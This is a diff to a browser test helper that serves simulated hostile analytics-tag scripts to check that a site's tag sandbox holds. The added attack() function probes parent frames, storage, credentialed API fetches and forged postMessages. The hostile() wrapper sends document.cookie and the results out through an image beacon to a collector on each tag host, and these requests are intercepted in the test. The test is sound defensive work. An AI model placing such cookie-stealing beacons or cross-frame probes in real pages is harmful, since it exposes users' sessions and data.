@@ -32,21 +32,134 @@ const TIKTOK = `(() => {
   ttq = Object.fromEntries(methods.map((name) => [name, (...call) => name === 'revokeConsent' || say([name, ...call])]));
 })()`;
 
-const STUBS: Readonly<Record<TagName, { readonly host: string; readonly code: string }>> = {
+type Stubs = Readonly<Record<TagName, { readonly host: string; readonly code: string }>>;
+
+const STUBS: Stubs = {
   ga4: { host: 'www.googletagmanager.com', code: GTAG },
   metaPixel: { host: 'connect.facebook.net', code: PIXEL },
   tiktokPixel: { host: 'analytics.tiktok.com', code: TIKTOK },
 };
 
+/** What code in the tags' page could try, with the name of each attempt that came through. */
+export async function attack(): Promise<readonly string[]> {
+  const reached: string[] = [];
+  /** An attempt fails by an error or by nothing. */
+  const attempt = async (name: string, act: () => unknown) => {
+    try {
+      const found = await act();
+      if (found !== undefined && found !== null && found !== '') reached.push(`${name}: ${String(found).slice(0, 100)}`);
+    } catch {
+      // The wall held.
+    }
+  };
+  const soon = <T>(start: (done: (value?: T) => void) => void) =>
+    new Promise<T | undefined>((done) => {
+      start(done);
+      setTimeout(done, 500);
+    });
+  for (const [name, other] of [
+    ['parent', parent],
+    ['top', top],
+    ['opener', opener],
+  ] as const) {
+    await attempt(`${name}'s page`, () => other?.document.title);
+    await attempt(`${name}'s address`, () => other?.location.href);
+    await attempt(`${name}'s storage`, () => other?.localStorage.length);
+    await attempt(`${name}'s fetch`, () => other?.fetch);
+    await attempt(`${name}'s frames`, () =>
+      other && other !== window && other.frames[0] !== window ? other.frames[0] : undefined,
+    );
+    await attempt(`${name} moved away`, () => {
+      if (other && other !== window) other.location.href = '/imprint';
+    });
+  }
+  await attempt('a new window', () => open('/manage'));
+  await attempt('the frame around it', () => frameElement);
+  await attempt('the first selfie', () =>
+    soon((done) => {
+      const request = indexedDB.open('photo');
+      request.onsuccess = () => done('opened');
+      request.onerror = () => done();
+    }),
+  );
+  await attempt('caches', () => caches.keys());
+  await attempt('a service worker', () => navigator.serviceWorker.register('/tags'));
+  await attempt('a lock', () => soon((done) => void navigator.locks.request('a', () => done('held'))));
+  await attempt('a channel', () =>
+    soon((done) => {
+      const channel = new BroadcastChannel('spy');
+      channel.onmessage = ({ data }) => done(data);
+    }),
+  );
+  for (const credentials of ['include', 'omit'] as const) {
+    for (const path of ['/api/manage', '/api/configuration', '/api/operator/session', '/'])
+      await attempt(`${path} (${credentials})`, async () => (await fetch(path, { credentials })).status);
+    await attempt(`an answer it may not read (${credentials})`, async () => {
+      const { type } = await fetch('/api/configuration', { mode: 'no-cors', credentials });
+      return type;
+    });
+  }
+  await attempt('a form', () =>
+    soon((done) => {
+      const form = Object.assign(document.createElement('form'), { action: '/api/leads', method: 'post' });
+      document.body.append(form);
+      form.submit();
+      done();
+    }),
+  );
+  await attempt('a frame of ours', () =>
+    soon((done) => {
+      const frame = Object.assign(document.createElement('iframe'), { src: '/quiz1' });
+      frame.onload = () => {
+        try {
+          done(frame.contentDocument?.title);
+        } catch {
+          done();
+        }
+      };
+      document.body.append(frame);
+    }),
+  );
+  await attempt('a picture of ours', () =>
+    soon((done) => {
+      const picture = new Image();
+      picture.onload = () => done('drawn');
+      picture.onerror = () => done();
+      picture.src = '/favicon.ico';
+    }),
+  );
+  // Lies in the other direction: nobody listens.
+  for (const lie of [{ report: { kind: 'subscribed', id: 'x', value: 1, currency: 'USD' } }, { stop: true }, 'hello'])
+    parent.postMessage(lie, '*');
+  await attempt('a message', () =>
+    soon((done) => {
+      addEventListener('message', ({ data }) => done(JSON.stringify(data)));
+    }),
+  );
+  return reached;
+}
+
+/** Its answer goes where the policy lets it. */
+function hostile(collector: string): string {
+  return `(${attack})().then((reached) => {
+    new Image().src = '${collector}?cookies=' + encodeURIComponent(document.cookie) + '&reached=' + encodeURIComponent(JSON.stringify(reached)); });`;
+}
+
+export const HOSTILE: Stubs = {
+  ga4: { host: 'www.googletagmanager.com', code: hostile('https://www.googletagmanager.com/a') },
+  metaPixel: { host: 'connect.facebook.net', code: hostile('https://www.facebook.com/tr/') },
+  tiktokPixel: { host: 'analytics.tiktok.com', code: hostile('https://analytics.tiktok.com/api') },
+};
+
 /** Nothing leaves the machine; requests to other sites are recorded. */
-export async function interceptThirdParties(context: BrowserContext, ours: string) {
+export async function interceptThirdParties(context: BrowserContext, ours: string, stubs = STUBS) {
   const requests: Request[] = [];
   await context.route(
     (url) => url.origin !== ours && /^(https?|wss?):$/.test(url.protocol),
     async (route) => {
       requests.push(route.request());
       const { hostname } = new URL(route.request().url());
-      const body = Object.values(STUBS).find(({ host }) => host === hostname)?.code ?? '';
+      const body = Object.values(stubs).find(({ host }) => host === hostname)?.code ?? '';
       await route.fulfill({ contentType: 'text/javascript', body });
     },
   );
@@ -60,6 +173,16 @@ export async function interceptThirdParties(context: BrowserContext, ours: strin
       );
       return (await Promise.all(all)).join('\n');
     },
+    /** What hostile code told its platform. */
+    told: () =>
+      requests
+        .map((request) => new URL(request.url()))
+        .filter(({ searchParams }) => searchParams.has('reached'))
+        .map(({ hostname, searchParams }) => ({
+          hostname,
+          cookies: searchParams.get('cookies') ?? '',
+          reached: JSON.parse(searchParams.get('reached') ?? ''),
+        })),
     calls: (name: string) =>
       requests
         .flatMap((request) => [new URL(request.url()).searchParams.get('call'), request.postData()])
